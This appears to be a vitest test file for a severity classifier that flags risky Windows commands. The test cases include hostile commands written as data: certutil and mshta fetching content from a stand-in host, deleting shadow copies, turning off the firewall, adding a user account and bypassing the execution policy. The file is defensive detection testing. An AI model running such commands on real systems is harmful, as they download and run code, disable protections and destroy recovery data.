import { expect, test } from 'vitest';
import { WINDOWS } from '../../../src/inspect/commands/windows.ts';
import { gravity } from './seen.ts';

const seen = gravity(WINDOWS);

test.each([
  ['reg add HKCU\\x', 'high'],
  ['reg query HKCU\\x', undefined],
  ['set-itemproperty -Path HKCU:\\x -Name a', 'high'],
  ['set-itemproperty -Path notes.txt -Name IsReadOnly', undefined],
  ['set-itemproperty -Path HKCU:\\x -Name a -WhatIf', undefined],
  ['stop-service x', 'high'],
  ['stop-service x -WhatIf:$false', 'high'],
  ['set-executionpolicy Bypass', 'high'],
  ['set-executionpolicy Bypass -Scope Process', undefined],
  ['net user bob', undefined],
  ['net user bob pw /add', 'high'],
  ['netsh advfirewall show allprofiles', undefined],
  ['netsh advfirewall set allprofiles state off', 'high'],
  ['taskkill /im * /f', 'high'],
  ['taskkill /pid 12', undefined],
  ['icacls x /grant Everyone:F', 'high'],
  ['icacls x', undefined],
  ['certutil -hashfile x', undefined],
  ['certutil -urlcache -f http://there.example/x x', 'high'],
  ['mshta http://there.example/x', 'critical'],
  ['wmic os get version', undefined],
  ['wmic shadowcopy delete', 'high'],
])('%s: %s', (command, severity) => {
  expect(seen(command)).toBe(severity);
});
